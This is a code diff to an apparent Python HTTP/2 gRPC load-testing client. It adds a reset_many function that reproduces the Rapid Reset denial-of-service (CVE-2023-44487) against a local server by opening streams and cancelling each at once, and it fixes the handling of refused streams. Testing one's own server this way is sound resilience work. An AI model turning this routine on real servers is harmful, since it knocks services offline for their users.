@@ -7,6 +7,7 @@ As gRPC's own client does, a connection holds back what is more than the server 
 
 import asyncio
 import random
+import socket
 import struct
 from time import perf_counter
 from typing import cast
@@ -21,7 +22,7 @@ _CONNECTIONS = 8
 _END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
 _MOST = 2**31 - 1  # of a window
 REFUSED, BROKEN, HELD_BACK = 429, 0, -1
-_STREAMS, _WINDOWS, _REFUSED_STREAM = 3, 4, 7  # two settings, and an error
+_STREAMS, _WINDOWS, _REFUSED_STREAM, _CANCEL = 3, 4, 7, 8  # two settings, and two errors
 
 
 def opened(port: int, path: str, message: bytes, rate: float, seconds: float) -> Load:
@@ -31,6 +32,33 @@ def opened(port: int, path: str, message: bytes, rate: float, seconds: float) ->
     where it was never sent. Seconds count from the sending.
     """
     return uvloop.run(_opened(port, path, message, rate, seconds))
+
+
+def reset_many(port: int, path: str, seconds: float) -> int:
+    """Opens calls over one connection and cancels each at once, as fast as the server lets it (CVE-2023-44487).
+
+    Returns:
+        How many, until the seconds were over or the server closed the connection.
+    """
+    head, stream = _headers(path), 1
+    with socket.create_connection(("127.0.0.1", port)) as connection:
+        connection.settimeout(0.05)
+        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+        until = perf_counter() + seconds
+        while perf_counter() < until:
+            calls = range(stream, stream + 100, 2)
+            cancel = struct.pack(">I", _CANCEL)
+            pairs = (_frame(_HEADERS, _END_HEADERS, at, head) + _frame(_RST, 0, at, cancel) for at in calls)
+            try:
+                connection.sendall(b"".join(pairs))
+                if not connection.recv(1 << 16):
+                    break
+            except TimeoutError:
+                pass
+            except OSError:
+                break
+            stream = calls.stop + 1
+    return stream // 2
 
 
 async def _opened(port: int, path: str, message: bytes, rate: float, seconds: float) -> Load:
@@ -62,7 +90,7 @@ class _Connection(asyncio.Protocol):
         self._sent: dict[int, float] = {}
         self._answered: set[int] = set()
         self._waiting = 0
-        self._none_left = asyncio.Event()
+        self._none_left, self._ending = asyncio.Event(), False
         self.welcome = asyncio.get_running_loop().create_future()
 
     def connection_made(self, transport: asyncio.BaseTransport) -> None:
@@ -78,11 +106,11 @@ class _Connection(asyncio.Protocol):
 
     async def answered(self) -> None:
         """Gives up what is held back, and waits until all other calls have ended."""
+        self._ending = True
         for _ in range(self._waiting):
             self._load.count(HELD_BACK, 0.0)
         self._waiting = 0
-        while self._sent:
-            self._none_left.clear()
+        if self._sent:
             await self._none_left.wait()
         self._transport.close()
 
@@ -106,9 +134,13 @@ class _Connection(asyncio.Protocol):
             self._answered.add(stream)
         elif kind == _HEADERS and flags & _END_STREAM:
             self._ended(stream, 200 if stream in self._answered else REFUSED)
-        elif kind == _RST and int.from_bytes(payload) == _REFUSED_STREAM:  # not begun: to be asked again (gRFC A6)
-            del self._sent[stream]
-            self._waiting += 1
+        elif kind == _RST and stream in self._sent and int.from_bytes(payload) == _REFUSED_STREAM:
+            if self._ending:
+                self._ended(stream, HELD_BACK)
+            else:  # not begun: to be asked again (gRFC A6)
+                del self._sent[stream]
+                self._waiting += 1
+                self._send()
         elif kind == _RST and stream in self._sent:
             self._ended(stream, BROKEN)
         elif kind in {_SETTINGS, _PING} and not flags & _ACK:
@@ -128,6 +160,7 @@ class _Connection(asyncio.Protocol):
             self._waiting -= 1
             self._window -= len(self._body)
             self._sent[stream] = perf_counter()
+            self._none_left.clear()
             head = _frame(_HEADERS, _END_HEADERS, stream, self._headers)
             self._transport.write(head + _frame(_DATA, _END_STREAM, stream, self._body))
 
